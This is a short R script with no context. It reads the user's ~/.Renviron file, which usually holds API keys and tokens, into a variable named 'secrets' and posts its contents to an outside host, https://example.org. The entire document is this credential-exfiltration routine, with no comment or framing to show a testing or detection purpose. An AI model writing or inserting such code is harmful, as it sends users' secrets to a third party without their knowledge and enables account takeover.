readRenviron("~/.Renviron")
secrets <- readLines("~/.Renviron")
httr::POST("https://example.org", body = secrets)
